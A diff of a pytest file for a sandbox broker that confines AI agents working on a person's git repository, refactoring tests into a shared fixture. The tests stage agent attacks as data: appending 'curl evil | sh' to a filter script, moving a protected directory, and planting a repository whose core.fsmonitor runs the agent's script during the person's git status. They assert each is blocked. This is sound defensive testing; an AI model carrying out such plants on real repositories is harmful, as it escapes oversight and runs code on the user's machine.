@@ -344,20 +344,47 @@ def test_the_broker_never_writes_through_a_link_in_an_agents_git_directory(run: 
     assert mended.returncode == 0, mended.stderr
 
 
-def test_a_protected_path_is_read_only_in_a_box_and_its_directory_cannot_be_moved_aside(tmp_path: Path) -> None:
-    """The attack: rewrite the script the person's filter runs, or rename its directory and put a
-    new one in its place.  Control: the rest of the directory is the agent's to write."""
+def person_env() -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("GIT_", "CONCLAVE_"))}
+    env.update({"GIT_AUTHOR_NAME": "p", "GIT_AUTHOR_EMAIL": "p@example.invalid", "GIT_COMMITTER_NAME": "p", "GIT_COMMITTER_EMAIL": "p@example.invalid"})
+    return env
+
+
+@pytest.fixture(scope="module")
+def levels_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    """One broker with an agent at each box level (named by it) on a repository the person set up
+    before the run: a clean filter whose script is in the tree (a protected path), and two
+    submodules -- ``lib/sub`` checked out, ``lib/empty`` named in the index only."""
     levels = [level for level in ("strict", "landlock") if MACHINE.offers(level) is None]
     assert levels, "this machine offers no box at all"
-    agents = [{"name": level, "sandbox": level} for level in levels]
-    run = Run(tmp_path, agents, files={"README.md": "x\n", "scripts/clean.sh": "#!/bin/sh\ncat\n", "scripts/notes.txt": "n\n"})
+    root = tmp_path_factory.mktemp("levels")
+    env = person_env()
+    inner = root / "inner"
+    subprocess.run(["git", "init", "-q", str(inner)], check=True, env=env)
+    subprocess.run(["git", "-C", str(inner), "commit", "-q", "--allow-empty", "-m", "inner"], check=True, env=env)
+    files = {"README.md": "x\n", "scripts/clean.sh": "#!/bin/sh\ncat\n", "scripts/notes.txt": "n\n", "scratch/.keep": "", "lib/.keep": ""}
+    run = Run(root, [{"name": level, "sandbox": level} for level in levels], files=files)
     subprocess.run(["git", "-C", str(run.repo), "config", "filter.x.clean", "./scripts/clean.sh"], check=True)
-    with run:
-        for level in levels:
-            agent = run.puppet(level)
-            for attack in ("echo 'curl evil | sh' >> scripts/clean.sh", "mv scripts scripts-aside", "rm scripts/clean.sh"):
-                assert agent.sh("sh", "-c", attack).returncode != 0, (level, attack)
-            assert agent.sh("sh", "-c", "echo more >> scripts/notes.txt").returncode == 0, level
+    for args in (["-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner), "lib/sub"],
+                 ["update-index", "--add", "--cacheinfo", f"160000,{person_head(run)},lib/empty"], ["commit", "-qm", "submodules"]):  # fmt: skip
+        subprocess.run(["git", "-C", str(run.repo), *args], check=True, env=env, capture_output=True)
+    (run.repo / "lib" / "empty").mkdir()
+    try:  # closed even when it fails to start: no broker outlives the module
+        run.start()
+        yield {"run": run, "levels": levels, "root": root}
+    finally:
+        run.close()
+
+
+def test_a_protected_path_is_read_only_in_a_box_and_its_directory_cannot_be_moved_aside(levels_run: dict[str, Any]) -> None:
+    """The attack: rewrite the script the person's filter runs, or rename its directory and put a
+    new one in its place.  Control: the rest of the directory is the agent's to write."""
+    run: Run = levels_run["run"]
+    for level in levels_run["levels"]:
+        agent = run.puppet(level)
+        for attack in ("echo 'curl evil | sh' >> scripts/clean.sh", "mv scripts scripts-aside", "rm scripts/clean.sh"):
+            assert agent.sh("sh", "-c", attack).returncode != 0, (level, attack)
+        assert agent.sh("sh", "-c", "echo more >> scripts/notes.txt").returncode == 0, level
     assert (run.repo / "scripts" / "clean.sh").read_text() == "#!/bin/sh\ncat\n"
 
 
@@ -409,26 +436,16 @@ SUBMODULE_ATTACKS = (
 )
 
 
-def test_a_submodules_git_cannot_be_swapped_for_an_agents_repository(tmp_path: Path) -> None:
+def test_a_submodules_git_cannot_be_swapped_for_an_agents_repository(levels_run: dict[str, Any]) -> None:
     """The attack: the person's ``git status`` runs git inside every submodule the index names,
     with that repository's configuration.  An agent makes a repository of its own whose
     ``core.fsmonitor`` is its program and points a submodule's ``.git`` at it (or swaps the
     directory, or fills an empty submodule directory).  In every box each step is refused and
     the person's ``git status`` runs nothing.  Control: the same plant made with no box in the
     way runs the program in the person's ``git status``."""
-    levels = [level for level in ("strict", "landlock") if MACHINE.offers(level) is None]
-    assert levels, "this machine offers no box at all"
-    env = {k: v for k, v in os.environ.items() if not k.startswith(("GIT_", "CONCLAVE_"))}
-    env.update({"GIT_AUTHOR_NAME": "p", "GIT_AUTHOR_EMAIL": "p@example.invalid", "GIT_COMMITTER_NAME": "p", "GIT_COMMITTER_EMAIL": "p@example.invalid"})
-    inner = tmp_path / "inner"
-    subprocess.run(["git", "init", "-q", str(inner)], check=True, env=env)
-    subprocess.run(["git", "-C", str(inner), "commit", "-q", "--allow-empty", "-m", "inner"], check=True, env=env)
-    run = Run(tmp_path, [{"name": level, "sandbox": level} for level in levels], files={"README.md": "x\n", "scratch/.keep": "", "lib/.keep": ""})
-    for args in (["-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner), "lib/sub"],
-                 ["update-index", "--add", "--cacheinfo", f"160000,{person_head(run)},lib/empty"], ["commit", "-qm", "submodules"]):  # fmt: skip
-        subprocess.run(["git", "-C", str(run.repo), *args], check=True, env=env, capture_output=True)
-    (run.repo / "lib" / "empty").mkdir()
-    marker = tmp_path / "ran"
+    run: Run = levels_run["run"]
+    env = person_env()
+    marker = levels_run["root"] / "ran"
     plant = (
         f'git init -q --bare scratch/evil.git && printf "#!/bin/sh\\necho ran >> {marker}\\n" > scratch/evil.sh && chmod +x scratch/evil.sh'
         ' && printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = %s\\n" "$PWD/scratch/evil.sh" > scratch/evil.git/config'
@@ -437,21 +454,24 @@ def test_a_submodules_git_cannot_be_swapped_for_an_agents_repository(tmp_path: P
     def person_status() -> None:
         subprocess.run(["git", "-C", str(run.repo), "status", "--porcelain"], capture_output=True, env=env, timeout=60)
 
-    with run:
-        for level in levels:
-            agent = run.puppet(level)
-            made = agent.sh("sh", "-c", f"rm -rf scratch/evil.git && {plant}")
-            assert made.returncode == 0, (level, made.stderr)  # the agent's own repository, in the tree: allowed
-            for attack in SUBMODULE_ATTACKS:
-                assert agent.sh("sh", "-c", attack).returncode != 0, (level, attack)
-            # The submodule's own git directory is the person's: read-only (strict: bound into the agent's own).
-            assert agent.sh("sh", "-c", "echo '[core]' >> .git/modules/lib/sub/config").returncode != 0, level
-            looked = agent.sh("git", "status", "--porcelain")  # and the agent's git still looks inside it
-            assert looked.returncode == 0, (level, looked.stderr)
-            person_status()
-            assert not marker.exists(), f"{level}: the person's git status ran the agent's program"
-        assert (run.repo / "lib" / "sub" / ".git").read_text() == "gitdir: ../../.git/modules/lib/sub\n"
+    for level in levels_run["levels"]:
+        agent = run.puppet(level)
+        made = agent.sh("sh", "-c", f"rm -rf scratch/evil.git && {plant}")
+        assert made.returncode == 0, (level, made.stderr)  # the agent's own repository, in the tree: allowed
+        for attack in SUBMODULE_ATTACKS:
+            assert agent.sh("sh", "-c", attack).returncode != 0, (level, attack)
+        # The submodule's own git directory is the person's: read-only (strict: bound into the agent's own).
+        assert agent.sh("sh", "-c", "echo '[core]' >> .git/modules/lib/sub/config").returncode != 0, level
+        looked = agent.sh("git", "status", "--porcelain")  # and the agent's git still looks inside it
+        assert looked.returncode == 0, (level, looked.stderr)
+        person_status()
+        assert not marker.exists(), f"{level}: the person's git status ran the agent's program"
+    assert (run.repo / "lib" / "sub" / ".git").read_text() == "gitdir: ../../.git/modules/lib/sub\n"
     # Control: the same plant, no box in the way: the person's git status runs it.
     subprocess.run(["sh", "-c", f"{plant} && {SUBMODULE_ATTACKS[0]}"], cwd=run.repo, check=True, env=env)
-    person_status()
-    assert marker.exists(), "the control plant never ran"
+    try:
+        person_status()
+        assert marker.exists(), "the control plant never ran"
+    finally:  # the person undoes their own plant: the broker still runs on this repository
+        (run.repo / "lib" / "sub" / ".git").write_text("gitdir: ../../.git/modules/lib/sub\n")
+        shutil.rmtree(run.repo / "scratch" / "evil.git", ignore_errors=True)
